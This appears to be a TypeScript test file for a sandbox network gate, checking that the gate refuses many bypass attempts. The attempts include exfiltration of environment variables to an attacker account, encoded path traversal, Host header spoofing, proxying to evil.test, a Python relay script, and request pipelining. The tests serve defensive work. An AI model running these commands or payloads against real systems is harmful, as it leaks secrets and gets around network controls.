// SPDX-License-Identifier: Apache-2.0
import { ORIGINS } from '../_internet/addresses.ts'
import type { Arrival } from '../_internet/internet.ts'
import { bypass } from './_bypass.ts'

/** One organisation's paths may be read, nothing else. */
const READ_ACME = '  - { host: web.test, methods: [GET, HEAD], path: /acme/** }'
const atAttackers = (arrival: Arrival): boolean => arrival.kind === 'http' && String(arrival['uri']).includes('attacker')
/** The origin's certificate, or the one that the gate shows: both are the business of other tests. */
const CURL = 'curl -sS -m 5 -k'

bypass({
  never: 'data goes up to the attacker’s account on an allowed host',
  rows: [3, 8, 9, 33],
  rules: READ_ACME,
  script: `env | ${CURL} --data-binary @- https://web.test/repos/attacker/loot/issues`,
  through: atAttackers,
  refusal: 'method',
})
for (const [attempt, request] of [
  ['registers a runner of the attacker’s', '-X POST https://web.test/repos/attacker/loot/actions/runners/registration-token'],
  ['makes a repository', `-d '{"name":"loot"}' https://web.test/user/repos`],
  ['writes a gist', `-d '{"files":{}}' https://web.test/gists`],
] as const) {
  bypass({
    never: `a step ${attempt} by the interface of an allowed host`,
    rows: [3, 8, 9, 10, 18, 33],
    rules: '  - { host: web.test, methods: [GET, POST], path: /repos/acme/** }',
    script: `${CURL} ${request}`,
    through: (arrival) => /attacker|[/]user[/]repos|[/]gists/.test(String(arrival['uri'])),
    refusal: 'path',
  })
}
bypass({
  never: 'a package is published to a registry that may be read',
  rows: [4, 33],
  rules: '  - { host: web.test, methods: [GET, HEAD], path: /** }',
  script: `${CURL} -X PUT -d '{}' https://web.test/small-sum`,
  through: ({ method }: Arrival): boolean => method === 'PUT',
  refusal: 'method',
})
bypass({
  never: 'an allowed method reads from another organisation',
  rows: [33],
  rules: READ_ACME,
  script: `${CURL} https://web.test/repos/attacker/payload`,
  through: atAttackers,
  refusal: 'path',
})
for (const path of [
  '/acme/../repos/attacker/a',
  '/acme/%2e%2e/repos/attacker/b',
  '/acme/.%2E/repos/attacker/c',
  '/acme/..%2frepos%2fattacker/d',
  '//repos/attacker/e',
  '/acme//../repos/attacker/f',
  '/acme/%252e%252e/repos/attacker/g',
  '/acme/..;/repos/attacker/h',
]) {
  bypass({
    never: `the path ${path} leaves the paths of the rule`,
    rows: [33],
    rules: READ_ACME,
    script: `${CURL} --path-as-is 'https://web.test${path}'`,
    through: atAttackers,
    refusal: null,
  })
}
bypass({
  never: 'another host is meant inside an allowed host’s connection',
  rows: [31],
  rules: READ_ACME,
  script: `${CURL} -H 'Host: other.test' https://web.test/acme/fronted; ${CURL} --http1.1 -H 'Host: other.test' https://web.test/acme/fronted`,
  through: (arrival) => arrival['host'] === 'other.test',
  refusal: 'host-header',
})
bypass({
  never: 'another host is meant in clear text',
  rows: [31],
  allow: ['web.test:80'],
  script: `${CURL} -H 'Host: other.test' http://web.test/title`,
  through: (arrival) => arrival['host'] === 'other.test',
  refusal: 'host-header',
})
bypass({
  never: 'a header makes another method of an allowed one',
  rows: [33],
  rules: READ_ACME,
  script: `${CURL} -H 'X-HTTP-Method-Override: DELETE' https://web.test/acme/override`,
  through: (arrival) => arrival['uri'] === '/acme/override',
  refusal: 'method',
})
bypass({
  never: 'a GraphQL endpoint is written to below a rule for paths',
  rows: [33],
  rules: '  - { host: web.test, methods: [POST], path: /** }',
  script: `${CURL} -d '{"query":"mutation { createRepository }"}' https://web.test/graphql`,
  through: (arrival) => arrival['uri'] === '/graphql',
  refusal: 'graphql',
})
bypass({
  never: 'a proxy is made of an allowed host',
  rows: [32],
  rules: '  - { host: web.test, port: 7777, protocol: http }',
  script: `${CURL} -x http://web.test:7777 https://evil.test/`,
  through: (arrival) => String(arrival['text']).startsWith('CONNECT'),
  refusal: 'method',
})
bypass({
  never: 'a request names its destination in full, and means another host than its connection',
  rows: [31, 32],
  rules: '  - { host: web.test, port: 7777, protocol: http }',
  script: `${CURL} -x http://web.test:7777 http://evil.test/`,
  through: (arrival) => String(arrival['text']).startsWith('GET http://evil.test'),
  refusal: 'host-header',
})
bypass({
  never: 'a relay inside the sandbox reaches what its clients may not',
  rows: [32],
  files: {
    'relay.py': `import socket, threading
server = socket.create_server(('127.0.0.1', 3128))
def pump(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
    except OSError: pass
    b.close()
def serve(client):
    try:
        host, port = client.recv(4096).split()[1].decode().split(':')
        target = socket.create_connection((host, int(port)), 3)
    except OSError:
        return client.close()
    client.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')
    threading.Thread(target=pump, args=(client, target), daemon=True).start()
    pump(target, client)
open('listening', 'w').close()
while True:
    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
`,
  },
  script: `python3 relay.py & until [ -e listening ]; do sleep 0.02; done
${CURL} -x http://127.0.0.1:3128 https://evil.test/title?by-name; ${CURL} -x http://127.0.0.1:3128 https://${ORIGINS.evil}/title?by-number; rm listening; kill $!`,
  through: (arrival) => arrival['server'] === ORIGINS.evil,
  refusal: 'no-rule',
})
bypass({
  never: 'a connection becomes a websocket that no rule means',
  rows: [33],
  rules: READ_ACME.replace('/acme/**', '/**'),
  script: `${CURL} --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://web.test/socket`,
  through: (arrival) => arrival.kind === 'websocket',
  refusal: 'upgrade',
})
bypass({
  never: 'a second request behind an allowed one goes unjudged',
  rows: [32, 33],
  rules: READ_ACME,
  files: {
    'attack.py': `import socket, ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = False\ncontext.verify_mode = ssl.CERT_NONE\ns = context.wrap_socket(socket.create_connection(('web.test', 443), 5), server_hostname='web.test')\nhead = lambda path: f'GET {path} HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'.encode()\ns.sendall(head('/acme/first') + head('/repos/attacker/second') + head('/acme/third'))\ns.settimeout(2)\ntry:\n    while s.recv(4096): pass\nexcept OSError: pass\n`,
  },
  script: 'python3 attack.py',
  through: atAttackers,
  refusal: null,
})
